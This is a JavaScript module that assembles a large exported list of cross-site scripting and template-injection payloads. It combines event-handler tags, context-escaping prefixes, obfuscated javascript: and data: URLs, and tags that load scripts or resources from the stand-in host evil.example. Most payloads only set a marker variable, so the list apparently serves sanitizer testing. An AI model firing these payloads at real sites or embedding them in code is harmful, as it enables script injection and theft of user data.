// Texts that run something, or fetch something from elsewhere, wherever they are taken for HTML, a script, a URL, a style or a template.

const ELEMENTS = ["img src=x", "svg", "body", "video src=x", "input autofocus", "details open", "object data=x", "select autofocus", "math", "x-y tabindex=1"];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter", "onmouseover"];
const SCRIPTS = ["<script>ran=1</script>", "<script src=//evil.example/s></script>", "<iframe srcdoc='<script>parent.ran=1</script>'>", "<template><script>ran=1</script></template>"];
/** What text is put into, and how it gets out of there. */
const WAYS_OUT = ["", '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "<noscript><p title='</noscript>"];
const SCHEMES = ["javascript:ran=1", "JaVaScRiPt:ran=1", "java&#115;cript:ran=1", "javascript&colon;ran=1", "data:text/html,<script>parent.ran=1</script>", "vbscript:ran=1"];
const LINKS = ["<a href='#'>x</a>", "<iframe src='#'></iframe>", "<form action='#'><button>x</button></form>", "<base href='#'>", "<meta http-equiv=refresh content='0;url=#'>"];
const FOREIGN = ["<img src=#>", "<link rel=stylesheet href=#>", "<style>@import '#'</style>", "<p style='background:url(#)'>", "<video poster=#>", "<embed src=#>", "<svg><image href=#></svg>", "<input type=image src=#>"];
const TEMPLATES = ["${ran=1}", "{{constructor.constructor('ran=1')()}}", "#{ran=1}", "<%= ran=1 %>", "{% ran=1 %}", "'-(ran=1)-'", '";ran=1;//', "\\';ran=1;//", "`;ran=1;`", "*/ran=1/*", "__proto__", "constructor", "ran\u202e=1", "\uff1cscript\uff1eran=1\uff1c/script\uff1e"];

/** How the same is written otherwise, and understood all the same. @type {((element: string, handler: string) => string)[]} */
const WRITINGS = [
  (element, handler) => `<${element} ${handler}=ran=1>`,
  (element, handler) => `<${element} ${handler}='window.ran=1'>`,
  (element, handler) => `<${element.toUpperCase()} ${handler.toUpperCase()}="window['ran']=1">`,
  (element, handler) => `<${element.replace(" ", "/")}/${handler}=&#114;an=1>`,
  (element, handler) => `%3C${element} ${handler}=ran=1%3E`,
  (element, handler) => `&lt;${element} ${handler}=ran=1&gt;`,
];

/** Two hundred and more, each at most 100 bytes long. */
export const PAYLOADS = [
  ...ELEMENTS.flatMap((element, n) => HANDLERS.map((handler, m) => (WAYS_OUT[(n + m) % WAYS_OUT.length] ?? "") + WRITINGS[(n * HANDLERS.length + m) % WRITINGS.length]?.(element, handler))),
  ...SCRIPTS.flatMap((script) => WAYS_OUT.map((out) => out + script)),
  ...SCHEMES.flatMap((scheme) => [scheme, ...LINKS.map((link) => link.replace("#", scheme))]),
  ...FOREIGN.flatMap((element, n) => ["//evil.example/a", "https://evil.example/b", "\\\\evil.example\\c", "HTTPS:evil.example/d", "http://evil.example:80/e"].map((url) => (WAYS_OUT[n] ?? "") + element.replace("#", url))),
  ...TEMPLATES,
];
